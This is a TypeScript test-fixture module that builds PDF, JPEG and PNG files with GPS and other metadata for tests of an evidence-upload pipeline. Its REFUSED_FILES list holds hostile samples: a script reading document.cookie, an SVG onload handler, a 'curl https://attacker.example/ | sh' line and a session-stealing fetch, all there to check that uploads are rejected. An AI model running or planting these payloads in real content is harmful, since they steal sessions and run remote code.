import { crc32 } from "node:zlib";
import jpeg from "jpeg-js";
import { PNG } from "pngjs";

// Evidence files made in the test, byte by byte, for the unit tests and the e2e tests alike: a minimal PDF,
// a photo-like JPEG and PNG (encoded by jpeg-js and pngjs) carrying the metadata a phone or an editing
// program leaves (EXIF with GPS, XMP, comments, text chunks), and the files that must be refused.

/** Where the fixtures say the picture was taken (the Palais des Nations, Geneva). */
export const FIXTURE_GPS = { latitude: 46.2265, longitude: 6.1404 };
export const FIXTURE_CAMERA = "Evidence Test Camera";

/** A valid one-page PDF whose page says `text`, with a correct cross-reference table. */
export function minimalPdf(text = "Signed page"): Buffer {
  const content = `BT /F1 18 Tf 72 720 Td (${text.replace(/[()\\]/g, "")}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** A small picture with a gradient and a dark square, so that its pixels can be compared after stripping. */
function pixels(width: number, height: number): Buffer {
  const data = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const offset = (y * width + x) * 4;
      const inSquare = x > width / 4 && x < width / 2 && y > height / 4 && y < height / 2;
      data[offset] = inSquare ? 20 : (x * 255) / width;
      data[offset + 1] = inSquare ? 20 : (y * 255) / height;
      data[offset + 2] = 128;
      data[offset + 3] = 255;
    }
  }
  return data;
}

type TiffEntry = { tag: number; type: 2 | 3 | 4 | 5; count: number; value: Buffer };
const ascii = (text: string) => ({ type: 2 as const, count: text.length + 1, value: Buffer.from(`${text}\0`, "latin1") });
const short = (value: number) => ({ type: 3 as const, count: 1, value: Buffer.from([value >> 8, value & 0xff]) });
const long = (value: number) => ({
  type: 4 as const,
  count: 1,
  value: Buffer.from([0, 0, 0, 0].map((_, i) => (value >>> (24 - 8 * i)) & 0xff)),
});
const rationals = (...values: [number, number][]) => {
  const value = Buffer.alloc(values.length * 8);
  values.forEach(([numerator, denominator], index) => {
    value.writeUInt32BE(numerator, index * 8);
    value.writeUInt32BE(denominator, index * 8 + 4);
  });
  return { type: 5 as const, count: values.length, value };
};
const degrees = (decimal: number): [number, number][] => {
  const whole = Math.floor(decimal);
  const minutes = (decimal - whole) * 60;
  return [
    [whole, 1],
    [Math.round(minutes * 1000), 1000],
    [0, 1],
  ];
};

/** One TIFF directory at `start`: entries, next-directory pointer, then the values that do not fit inline. */
function tiffDirectory(entries: TiffEntry[], start: number): Buffer {
  const tableSize = 2 + entries.length * 12 + 4;
  const parts: Buffer[] = [];
  const table = Buffer.alloc(tableSize);
  table.writeUInt16BE(entries.length, 0);
  let dataOffset = start + tableSize;
  entries.forEach((entry, index) => {
    const at = 2 + index * 12;
    table.writeUInt16BE(entry.tag, at);
    table.writeUInt16BE(entry.type, at + 2);
    table.writeUInt32BE(entry.count, at + 4);
    if (entry.value.length <= 4) entry.value.copy(table, at + 8);
    else {
      table.writeUInt32BE(dataOffset, at + 8);
      parts.push(entry.value);
      dataOffset += entry.value.length;
    }
  });
  return Buffer.concat([table, ...parts]);
}

/** A big-endian TIFF structure with the camera's make, an orientation if given, and a GPS directory. */
export function exifWithGps(options: { orientation?: number } = {}): Buffer {
  const gpsEntries = [
    { tag: 0x0001, ...ascii("N") },
    { tag: 0x0002, ...rationals(...degrees(FIXTURE_GPS.latitude)) },
    { tag: 0x0003, ...ascii("E") },
    { tag: 0x0004, ...rationals(...degrees(FIXTURE_GPS.longitude)) },
  ];
  const firstEntries = (gpsOffset: number): TiffEntry[] => [
    { tag: 0x010f, ...ascii(FIXTURE_CAMERA) },
    ...(options.orientation ? [{ tag: 0x0112, ...short(options.orientation) }] : []),
    { tag: 0x8825, ...long(gpsOffset) },
  ];
  const header = Buffer.from([0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8]);
  const firstSize = tiffDirectory(firstEntries(0), 8).length;
  const first = tiffDirectory(firstEntries(8 + firstSize), 8);
  return Buffer.concat([header, first, tiffDirectory(gpsEntries, 8 + firstSize)]);
}

const XMP_PACKET = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="46,13.59N" exif:GPSLongitude="6,8.424E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
export const FIXTURE_COMMENT = "Photographed in the ambassador's office";

function jpegSegment(marker: number, body: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([header, body]);
}

export const JPEG_SIZE = { width: 32, height: 24 };

/** A JPEG as a phone leaves it: EXIF with GPS (and an orientation if given), XMP with GPS, a comment, IPTC. */
export function jpegWithGps(options: { orientation?: number; trailer?: Buffer } = {}): Buffer {
  const encoded = jpeg.encode({ data: pixels(JPEG_SIZE.width, JPEG_SIZE.height), ...JPEG_SIZE }, 90).data;
  const metadata = Buffer.concat([
    jpegSegment(0xe1, Buffer.concat([Buffer.from("Exif\0\0", "latin1"), exifWithGps(options)])),
    jpegSegment(0xe1, Buffer.concat([Buffer.from("http://ns.adobe.com/xap/1.0/\0", "latin1"), Buffer.from(XMP_PACKET)])),
    jpegSegment(
      0xed,
      Buffer.concat([
        Buffer.from("Photoshop 3.0\u00008BIM", "latin1"),
        Buffer.from([4, 4, 0, 0, 0, 0, 0, 12, 0x1c, 2, 0x78, 0, 7]),
        Buffer.from("Geneva!"),
      ]),
    ),
    jpegSegment(0xfe, Buffer.from(FIXTURE_COMMENT)),
  ]);
  return Buffer.concat([encoded.subarray(0, 2), metadata, encoded.subarray(2), options.trailer ?? Buffer.alloc(0)]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, checksum]);
}

export const PNG_SIZE = { width: 20, height: 16 };

/** A PNG with text, XMP, EXIF with GPS, a time stamp and a private chunk after its header. */
export function pngWithMetadata(options: { trailer?: Buffer } = {}): Buffer {
  const png = new PNG(PNG_SIZE);
  pixels(PNG_SIZE.width, PNG_SIZE.height).copy(png.data);
  const encoded = PNG.sync.write(png);
  const afterHeader = 8 + 12 + 13; // signature, then IHDR (12 bytes of framing, 13 of data)
  const metadata = Buffer.concat([
    pngChunk("tEXt", Buffer.from(`Author\0${FIXTURE_CAMERA}`, "latin1")),
    pngChunk("iTXt", Buffer.concat([Buffer.from("XML:com.adobe.xmp\0\0\0\0\0", "latin1"), Buffer.from(XMP_PACKET)])),
    pngChunk("eXIf", exifWithGps()),
    pngChunk("tIME", Buffer.from([0x07, 0xe2, 9, 28, 12, 0, 0])),
    pngChunk("prVt", Buffer.from(FIXTURE_COMMENT)),
  ]);
  return Buffer.concat([encoded.subarray(0, afterHeader), metadata, encoded.subarray(afterHeader), options.trailer ?? Buffer.alloc(0)]);
}

export function decodeJpegPixels(bytes: Uint8Array): Buffer {
  return jpeg.decode(Buffer.from(bytes), { useTArray: false }).data;
}

export function decodePngPixels(bytes: Uint8Array): Buffer {
  return PNG.sync.read(Buffer.from(bytes)).data;
}

/** Files that must be refused whatever their name says. */
export const REFUSED_FILES = {
  html: Buffer.from("<!DOCTYPE html><html><body><script>alert(document.cookie)</script>Note verbale</body></html>\n"),
  svg: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>`),
  script: Buffer.from("#!/bin/sh\ncurl https://attacker.example/ | sh\n"),
  javascript: Buffer.from("fetch('/api/auth/session').then((r) => r.text()).then(alert);\n"),
  gif: Buffer.from("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64"),
  wrongMagic: Buffer.concat([Buffer.from("%PDX-1.4\n"), minimalPdf().subarray(9)]),
};

/** A file as a browser's form would send it (the type is what the browser claims; the server ignores it). */
export function uploadedFile(bytes: Uint8Array, name: string, claimedType = ""): File {
  return new File([new Uint8Array(bytes)], name, { type: claimedType });
}
